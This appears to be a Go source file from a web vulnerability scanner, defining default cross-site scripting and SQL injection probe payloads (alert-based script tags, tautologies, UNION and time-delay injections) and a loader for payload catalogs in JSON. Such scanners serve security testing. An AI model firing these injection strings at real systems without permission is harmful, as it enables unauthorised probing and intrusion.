package modules

import (
	"encoding/json"
	"fmt"
	"os"
	"strings"

	"autoprobe/internal/models"
)

// ModuleToken is replaced with the module name in every payload so a fired
// payload can be attributed to the module that injected it.
const ModuleToken = "{{module}}"

var defaultXSSPayloads = []string{
	`<script>alert('{{module}}')</script>`,
	`<img src="x" onerror="alert('{{module}}')">`,
	`<svg onload="alert('{{module}}')"></svg>`,
	`<iframe src="javascript:alert('{{module}}')"></iframe>`,
}

var defaultSQLiPayloads = []string{
	`'`,
	`"`,
	`1' OR '1' = '1`,
	`' OR 1=1-- -`,
	`") OR ("1"="1`,
	`1 AND 1=CONVERT(int, @@version)--`,
	`1/0`,
	`' UNION SELECT NULL-- -`,
	`' AND SLEEP(5)-- -`,
	`'; WAITFOR DELAY '0:0:5'--`,
}

// expandPayloads returns a fresh catalog with ModuleToken substituted.
func expandPayloads(catalog []string, name string) []string {
	out := make([]string, len(catalog))
	for i, p := range catalog {
		out[i] = strings.ReplaceAll(p, ModuleToken, name)
	}
	return out
}

// LoadPayloadFile reads a payload catalog. Both a bare JSON array of payloads
// and an object with a "payloads" array are accepted.
func LoadPayloadFile(file string) ([]string, error) {
	data, err := os.ReadFile(file)
	if err != nil {
		return nil, fmt.Errorf("failed to open payload file: %w", err)
	}

	var payloads []models.Payload
	var wrapped struct {
		Payloads []models.Payload `json:"payloads"`
	}
	if err := json.Unmarshal(data, &wrapped); err == nil && wrapped.Payloads != nil {
		payloads = wrapped.Payloads
	} else if err := json.Unmarshal(data, &payloads); err != nil {
		return nil, fmt.Errorf("failed to unmarshal payload file %s: %w", file, err)
	}

	values := make([]string, 0, len(payloads))
	for _, p := range payloads {
		if p.Value != "" {
			values = append(values, p.Value)
		}
	}
	if len(values) == 0 {
		return nil, fmt.Errorf("payload file %s contains no payloads", file)
	}
	return values, nil
}
